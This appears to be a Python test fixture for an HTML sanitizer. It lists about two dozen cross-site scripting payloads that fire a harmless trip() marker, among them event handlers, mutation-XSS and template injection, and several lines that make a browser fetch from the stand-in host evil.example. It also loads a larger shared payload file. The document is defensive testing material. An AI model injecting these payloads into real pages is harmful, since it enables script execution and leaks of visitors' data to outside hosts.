"""What people have tried to run in other people's pages; a handful of our own.

The folder ../shared/security has thousands more, where it is at hand.
"""

from __future__ import annotations

import json
from pathlib import Path

SHARED = Path(__file__).parents[4] / "shared" / "security" / "xss.jsonl"

# Each would call trip(), show a dialog, or ask evil.example for something.
OURS = [
    "<script>trip(1)</script>",
    "<img src=x onerror=trip(2)>",
    "<svg><script>trip(3)</script></svg>",
    "<svg/onload=trip(4)>",
    '"><svg onload=trip(5)>',
    "'-trip(6)-'",
    "<a href=\"javascript:trip(7)\">press</a>",
    "<iframe srcdoc=\"<script>parent.trip(8)</script>\"></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 "
    'onerror=trip(9)&gt;">',
    "<noscript><p title=\"</noscript><img src=x onerror=trip(10)>\">",
    "<style>@import 'https://evil.example/a.css';</style>",
    '<div style="background:url(https://evil.example/b.png)">x</div>',
    '<div style="background-image:\\75rl(https://evil.example/c.png)">x</div>',
    '<img src="https://evil.example/d.gif" srcset="https://evil.example/e.gif 2x">',
    '<link rel="prefetch" href="https://evil.example/f">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/g">',
    '<base href="https://evil.example/"><a href="h">h</a>',
    '<form action="https://evil.example/i"><input autofocus onfocus=trip(11)></form>',
    '<object data="https://evil.example/j"></object><embed src="https://evil.example/k">',
    '<video src="https://evil.example/l" poster="https://evil.example/m" autoplay></video>',
    '<body background="https://evil.example/n" onload=trip(12)>',
    '<table background="https://evil.example/o"><td background="//evil.example/p">x</table>',
    '<details open ontoggle=trip(13)>x</details>',
    "<xmp><img src=x onerror=trip(14)></xmp>",
    "<img src='data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 "
    "onload=%22trip(15)%22/>'>",
    "{{constructor.constructor('trip(16)')()}}",
    "</textarea><script>trip(17)</script>",
    "<x hx-get='https://evil.example/q' hx-trigger='load'>x</x>",
]  # fmt: skip


def shared() -> list[str]:
    """Return the payloads of the shared folder; none where it is not at hand."""
    if not SHARED.is_file():
        return []
    return [json.loads(line)["payload"] for line in SHARED.read_text().splitlines()]
